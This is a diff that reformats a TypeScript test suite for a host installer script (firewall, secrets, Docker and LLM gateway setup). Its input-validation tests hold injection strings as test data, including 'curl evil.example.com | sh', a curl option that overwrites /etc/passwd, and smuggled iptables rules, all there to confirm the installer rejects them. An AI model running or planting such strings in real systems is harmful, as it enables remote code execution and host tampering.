@@ -9,7 +9,15 @@ import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } f
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parse } from "yaml";
-import { AGENT_SERVER_DIGEST, DryRunHost, EDGE_PARAMETER, mutatingCalls, sampleHostConfig, secretArn, type RunResult } from "./support/dry-run";
+import {
+  AGENT_SERVER_DIGEST,
+  DryRunHost,
+  EDGE_PARAMETER,
+  mutatingCalls,
+  sampleHostConfig,
+  secretArn,
+  type RunResult,
+} from "./support/dry-run";
 
 const SECRET_NAMES = ["identity-signing-key", "openhands-jwt-secret", "llm-gateway-key", "db-password-key"];
 const BASE64URL_32_BYTES = /^[A-Za-z0-9_-]{43}$/;
@@ -54,7 +62,9 @@ describe("install.sh on a bare host (dry run)", () => {
   });
 
   it("THEN the firewall is in place before Docker ever starts, and at every boot before docker.service", () => {
-    expect(firstIndex(first.calls, /^iptables -w -I DOCKER-USER 1 -j OH-FORWARD$/)).toBeLessThan(firstIndex(first.calls, /^systemctl start docker.service$/));
+    expect(firstIndex(first.calls, /^iptables -w -I DOCKER-USER 1 -j OH-FORWARD$/)).toBeLessThan(
+      firstIndex(first.calls, /^systemctl start docker.service$/),
+    );
     const unit = host.file("etc/systemd/system/oh-firewall.service");
     expect(unit).toMatch(/^Before=docker.service/m);
     expect(unit).toMatch(/^RequiredBy=docker.service$/m);
@@ -65,14 +75,22 @@ describe("install.sh on a bare host (dry run)", () => {
       "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, database.port)\nVPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n",
     );
     expect(host.mode("etc/openhands-team/firewall.env")).toBe("0644");
-    expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(/^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m);
+    expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(
+      /^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m,
+    );
     const loaded = readFileSync(join(host.state, "iptables"), "utf8");
     expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -s 10.240.0.2/255.255.0.255 -d 10.0.0.0/16 -p tcp --dport 5432 -j RETURN\n");
     expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.2/32 -p udp --dport 53 -j RETURN\n");
     expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.0/16 -j DROP\n");
     expect(loaded).not.toContain("@");
     expect(readFileSync(join(host.state, "ip6tables"), "utf8")).toContain("-A OH-FORWARD -i ohu-+ -j DROP\n");
-    expect(first.calls).toEqual(expect.arrayContaining(["ip6tables-restore -w --noflush", "ip6tables -w -I INPUT 1 -j OH-INPUT", "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD"]));
+    expect(first.calls).toEqual(
+      expect.arrayContaining([
+        "ip6tables-restore -w --noflush",
+        "ip6tables -w -I INPUT 1 -j OH-INPUT",
+        "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD",
+      ]),
+    );
   });
 
   it("THEN the kernel keeps bridged traffic in iptables and the ephemeral port range the firewall opens, at every boot", () => {
@@ -98,7 +116,9 @@ describe("install.sh on a bare host (dry run)", () => {
     ]);
     expect(first.calls.filter((c) => c.startsWith("docker image rm"))).toEqual([]);
     // the spawner gets the tag: OpenHands names sandbox images by their tag
-    expect(JSON.parse(host.file("run/openhands-team/spawner.json")).images.agentServer).toBe("ghcr.io/openhands/agent-server:1.19.1-python");
+    expect(JSON.parse(host.file("run/openhands-team/spawner.json")).images.agentServer).toBe(
+      "ghcr.io/openhands/agent-server:1.19.1-python",
+    );
   });
 
   it("THEN /etc/fstab mounts EFS with TLS and IAM and the Docker volume by its label, each once", () => {
@@ -113,20 +133,33 @@ describe("install.sh on a bare host (dry run)", () => {
     const puts = first.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"));
     expect(puts).toHaveLength(4);
     for (const name of SECRET_NAMES) {
-      expect(puts.some((c) => c.includes(`--secret-id ${secretArn(name)} --client-request-token openhands-team-first-boot-${name} --secret-string file://`))).toBe(true);
+      expect(
+        puts.some((c) =>
+          c.includes(`--secret-id ${secretArn(name)} --client-request-token openhands-team-first-boot-${name} --secret-string file://`),
+        ),
+      ).toBe(true);
       const value = host.secret(secretArn(name))!;
       expect(value).toMatch(BASE64URL_32_BYTES);
       expect(host.file(`run/openhands-team/secrets/${name}`)).toBe(value);
       expect(host.mode(`run/openhands-team/secrets/${name}`)).toBe("0600");
     }
     expect(host.mode("run/openhands-team/secrets")).toBe("0700");
-    for (const file of ["run/openhands-team/llm-gateway.env", "run/openhands-team/spawner.json", "etc/openhands-team/compose/.env", "run/openhands-team/secrets/db-admin-password"]) {
+    for (const file of [
+      "run/openhands-team/llm-gateway.env",
+      "run/openhands-team/spawner.json",
+      "etc/openhands-team/compose/.env",
+      "run/openhands-team/secrets/db-admin-password",
+    ]) {
       expect([file, host.mode(file)]).toEqual([file, "0600"]);
     }
     // no secret value on the command line of any call, nor in any file outside /run
     const values = [...SECRET_NAMES.map((n) => host.secret(secretArn(n))!), "master-password"];
     for (const value of values) expect(first.calls.filter((c) => c.includes(value))).toEqual([]);
-    const onDisk = spawnSync("grep", ["-rlF", ...values.flatMap((v) => ["-e", v]), join(host.root, "etc"), join(host.root, "opt"), join(host.root, "var")], { encoding: "utf8" });
+    const onDisk = spawnSync(
+      "grep",
+      ["-rlF", ...values.flatMap((v) => ["-e", v]), join(host.root, "etc"), join(host.root, "opt"), join(host.root, "var")],
+      { encoding: "utf8" },
+    );
     expect(onDisk.stdout).toBe("");
   });
 
@@ -141,14 +174,21 @@ describe("install.sh on a bare host (dry run)", () => {
 
   it("THEN Docker keeps the userland proxy on and ships container logs to CloudWatch", () => {
     const daemon = JSON.parse(host.file("etc/docker/daemon.json"));
-    expect(daemon).toMatchObject({ "userland-proxy": true, "icc": false, "live-restore": true, "log-driver": "awslogs" });
-    expect(daemon["log-opts"]).toMatchObject({ "awslogs-region": "eu-central-1", "awslogs-group": "/oh/test/apps", "awslogs-create-group": "false" });
+    expect(daemon).toMatchObject({ "userland-proxy": true, icc: false, "live-restore": true, "log-driver": "awslogs" });
+    expect(daemon["log-opts"]).toMatchObject({
+      "awslogs-region": "eu-central-1",
+      "awslogs-group": "/oh/test/apps",
+      "awslogs-create-group": "false",
+    });
   });
 
   it("THEN the LLM gateway routes every configured model to Bedrock with the instance role and a sk- master key", () => {
     const litellm = parse(host.file("etc/openhands-team/litellm.yaml"));
     expect(litellm.model_list).toEqual(
-      (sampleHostConfig() as { bedrock: { models: string[] } }).bedrock.models.map((m) => ({ model_name: m, litellm_params: { model: `bedrock/${m}`, aws_region_name: "eu-central-1" } })),
+      (sampleHostConfig() as { bedrock: { models: string[] } }).bedrock.models.map((m) => ({
+        model_name: m,
+        litellm_params: { model: `bedrock/${m}`, aws_region_name: "eu-central-1" },
+      })),
     );
     expect(litellm.general_settings.master_key).toBe("os.environ/LITELLM_MASTER_KEY");
     const key = `sk-${host.secret(secretArn("llm-gateway-key"))}`;
@@ -168,7 +208,11 @@ describe("install.sh on a bare host (dry run)", () => {
     // eslint-disable-next-line @typescript-eslint/no-require-imports
     const { parseConfig } = require("@openhands-team/spawner/src/config") as { parseConfig: (input: unknown) => Record<string, unknown> };
     const text = host.file("run/openhands-team/spawner.json").replaceAll('"/run/openhands-team/', `"${host.root}/run/openhands-team/`);
-    const config = parseConfig(JSON.parse(text)) as { database: { adminUser: string; adminPassword: string }; secrets: Record<string, string>; llm: { model: string } };
+    const config = parseConfig(JSON.parse(text)) as {
+      database: { adminUser: string; adminPassword: string };
+      secrets: Record<string, string>;
+      llm: { model: string };
+    };
     expect(config.database.adminUser).toBe("ohadmin");
     expect(config.database.adminPassword).toBe("master-password");
     expect(config.secrets.llmGatewayKey).toBe(`sk-${host.secret(secretArn("llm-gateway-key"))}`);
@@ -198,7 +242,10 @@ describe("install.sh on a bare host (dry run)", () => {
     const compose = join(host.root, "etc/openhands-team/compose/compose.yaml");
     const env = join(host.root, "etc/openhands-team/compose/.env");
     const validate = (file: string) =>
-      spawnSync("docker-compose", ["-f", file, "--env-file", env, "config", "-q"], { encoding: "utf8", env: { ...process.env, OH_RUN_DIR: join(host.root, "run/openhands-team") } });
+      spawnSync("docker-compose", ["-f", file, "--env-file", env, "config", "-q"], {
+        encoding: "utf8",
+        env: { ...process.env, OH_RUN_DIR: join(host.root, "run/openhands-team") },
+      });
     const good = validate(compose);
     expect(good.stderr).toBe("");
     expect(good.status).toBe(0);
@@ -220,7 +267,9 @@ describe("install.sh on a bare host (dry run)", () => {
     expect(first.calls).toContain("systemctl enable oh-health.timer");
     // a rotated database master password reaches the spawner's file within the hour
     expect(first.calls).toContain("systemctl enable oh-secrets-refresh.timer");
-    expect(host.file("etc/systemd/system/oh-secrets-refresh.service")).toMatch(/^ExecStart=\/opt\/openhands-team\/host\/steps\/50-secrets.sh$/m);
+    expect(host.file("etc/systemd/system/oh-secrets-refresh.service")).toMatch(
+      /^ExecStart=\/opt\/openhands-team\/host\/steps\/50-secrets.sh$/m,
+    );
     expect(host.file("etc/systemd/system/oh-secrets-refresh.service")).not.toMatch(/RemainAfterExit/);
     expect(host.file("etc/systemd/system/oh-secrets-refresh.timer")).toMatch(/^OnUnitActiveSec=1h$/m);
     expect(host.mode("opt/openhands-team/host/firewall/oh-firewall.sh")).toBe("0755");
@@ -268,10 +317,7 @@ describe("install.sh on a bare host (dry run)", () => {
     host.setParameter("/oh/test/host/config", JSON.stringify(config));
     const run = host.run();
     expect(run.code).toBe(0);
-    expect(mutatingCalls(run.calls)).toEqual([
-      "systemctl restart docker.service",
-      "systemctl restart openhands-team.service",
-    ]);
+    expect(mutatingCalls(run.calls)).toEqual(["systemctl restart docker.service", "systemctl restart openhands-team.service"]);
     expect(host.file("etc/openhands-team/litellm.yaml")).toContain("claude-opus-4-1");
     expect(JSON.parse(host.file("etc/docker/daemon.json"))["log-opts"]["awslogs-group"]).toBe("/oh/test/apps-v2");
   }, 320_000);
@@ -284,7 +330,9 @@ describe("install.sh refuses bad input (dry run)", () => {
     hosts.push(h);
     return h;
   };
-  afterAll(() => hosts.forEach((h) => h.cleanup()));
+  afterAll(() => {
+    for (const h of hosts) h.cleanup();
+  });
 
   it.each([
     ["--region", "eu-central-1; reboot"],
@@ -309,7 +357,9 @@ describe("install.sh refuses bad input (dry run)", () => {
     const host = newHost({ hostConfig: config });
     const run = host.run();
     expect(run.code).not.toBe(0);
-    expect(run.stderr).toContain('efsFileSystemId: "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/" is not an EFS file system id');
+    expect(run.stderr).toContain(
+      'efsFileSystemId: "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/" is not an EFS file system id',
+    );
     expect(run.stderr).toContain('images.node: "node:20; curl evil.example.com | sh" is not an image');
     expect(run.stderr).toContain("bedrock.models: [] is not a non-empty list of model ids");
     expect(run.stderr).toContain('network.vpcCidrs.0: "10.0.0.0/16 -j ACCEPT\n-A OH-FORWARD -j ACCEPT" is not an IPv4 CIDR');
@@ -361,7 +411,9 @@ describe("install.sh refuses bad input (dry run)", () => {
     expect(run.code).toBe(0);
     expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
     expect(host.parameter(EDGE_PARAMETER)).toBe(edge);
-    expect(run.stderr).toContain("WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret");
+    expect(run.stderr).toContain(
+      "WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret",
+    );
     expect(host.mode("run/openhands-team/secrets/identity-signing-key")).toBe("0600");
   });
 
@@ -373,7 +425,11 @@ describe("install.sh refuses bad input (dry run)", () => {
   function withJwksServer(host: DryRunHost, jwks: string | undefined): Record<string, string> {
     const bin = join(host.dir, "jwks-bin");
     mkdirSync(bin, { recursive: true });
-    writeFileSync(join(bin, "curl"), '#!/usr/bin/env bash\n{ printf curl; printf " %q" "$@"; printf "\\n"; } >>"$STUB_LOG"\n[ -f "$STUB_STATE/jwks" ] || exit 22\ncat "$STUB_STATE/jwks"\n', { mode: 0o755 });
+    writeFileSync(
+      join(bin, "curl"),
+      '#!/usr/bin/env bash\n{ printf curl; printf " %q" "$@"; printf "\\n"; } >>"$STUB_LOG"\n[ -f "$STUB_STATE/jwks" ] || exit 22\ncat "$STUB_STATE/jwks"\n',
+      { mode: 0o755 },
+    );
     if (jwks !== undefined) writeFileSync(join(host.state, "jwks"), jwks);
     return { PATH: `${bin}:${join(host.dir, "stubs")}:/usr/local/bin:/usr/bin:/bin` };
   }
@@ -413,13 +469,28 @@ describe("install.sh refuses bad input (dry run)", () => {
   });
 
   it.each([
-    ["the edge config parameter does not exist yet", undefined, JSON.stringify({ keys: [rsaKey("k1")] }), "cannot read /oh/test/edge/config"],
+    [
+      "the edge config parameter does not exist yet",
+      undefined,
+      JSON.stringify({ keys: [rsaKey("k1")] }),
+      "cannot read /oh/test/edge/config",
+    ],
     ["the jwksUri is plain http", "http://issuer.example.com/jwks.json", JSON.stringify({ keys: [rsaKey("k1")] }), "has no https jwksUri"],
-    ["the jwksUri smuggles a curl option", "https://issuer.example.com/jwks.json -o /etc/passwd", JSON.stringify({ keys: [rsaKey("k1")] }), "has no https jwksUri"],
+    [
+      "the jwksUri smuggles a curl option",
+      "https://issuer.example.com/jwks.json -o /etc/passwd",
+      JSON.stringify({ keys: [rsaKey("k1")] }),
+      "has no https jwksUri",
+    ],
     ["the download fails", JWKS_URI, undefined, "cannot download the issuer's JWKS"],
     ["the answer is not a JWKS", JWKS_URI, "<html>error</html>", "is not a JWKS"],
     ["the answer has keys without kid", JWKS_URI, JSON.stringify({ keys: [{ kty: "RSA" }] }), "is not a JWKS"],
-    ["the JWKS would pass SSM's 4 KB limit", JWKS_URI, JSON.stringify({ keys: Array.from({ length: 12 }, (_, i) => ({ ...rsaKey(`k${i}`), n: "x".repeat(342) })) }), "exceed 4096 bytes"],
+    [
+      "the JWKS would pass SSM's 4 KB limit",
+      JWKS_URI,
+      JSON.stringify({ keys: Array.from({ length: 12 }, (_, i) => ({ ...rsaKey(`k${i}`), n: "x".repeat(342) })) }),
+      "exceed 4096 bytes",
+    ],
   ])("GIVEN %s WHEN oh-secrets fills the placeholder THEN the keys are written without a JWKS (the edge downloads it) and it says why", (_what, jwksUri, jwks, message) => {
     const host = newHost();
     host.placeHostConfig();
